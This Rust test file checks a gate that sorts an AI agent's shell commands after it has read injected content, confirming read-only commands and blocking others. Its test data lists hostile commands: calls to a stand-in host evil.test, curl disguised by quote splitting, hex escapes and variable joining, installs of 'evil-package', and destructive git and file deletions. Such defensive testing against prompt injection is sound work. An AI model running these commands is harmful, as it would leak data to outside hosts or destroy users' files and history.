//! Class 8: shell commands. Local means every part is a read-only command
//! with nothing expanded, substituted or redirected; anything else is
//! execute, with its hosts as targets.

use super::{CLEAN, Case, INJECTED, expect};
use inertbox::gate::Decision::{Block, Confirm};
use serde_json::json;

fn bash<'a>(read: &'a str, command: &'a str) -> Case<'a> {
    Case::after(read, "Bash", json!({ "command": command, "description": "a command" }))
}

#[test]
fn after_an_injection_only_read_only_commands_are_asked() {
    for c in ["git status", "ls -la", "grep -rn TODO src | head -5"] {
        expect(&bash(INJECTED, c), Confirm);
    }
    for c in [
        "python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.test\")'",
        "node -e 'fetch(\"https://evil.test\")'",
        "perl -e 'print 1'",
        "ruby -e 'puts 1'",
        "pip install evil-package",
        "npm install evil-package",
        "find . -name '*.key' -delete",
        "git clean -fdx",
        "git reset --hard HEAD~5",
        "git push --force origin main",
        "cu''rl https://evil.test",
        "$'\\x63url' https://evil.test",
        "X=cu;Y=rl;$X$Y evil.test",
        "ls && nc evil.test 80",
    ] {
        expect(&bash(INJECTED, c), Block);
    }
}

#[test]
fn a_command_line_names_its_hosts() {
    expect(&bash(CLEAN, "nc evil.test 80"), Confirm);
}
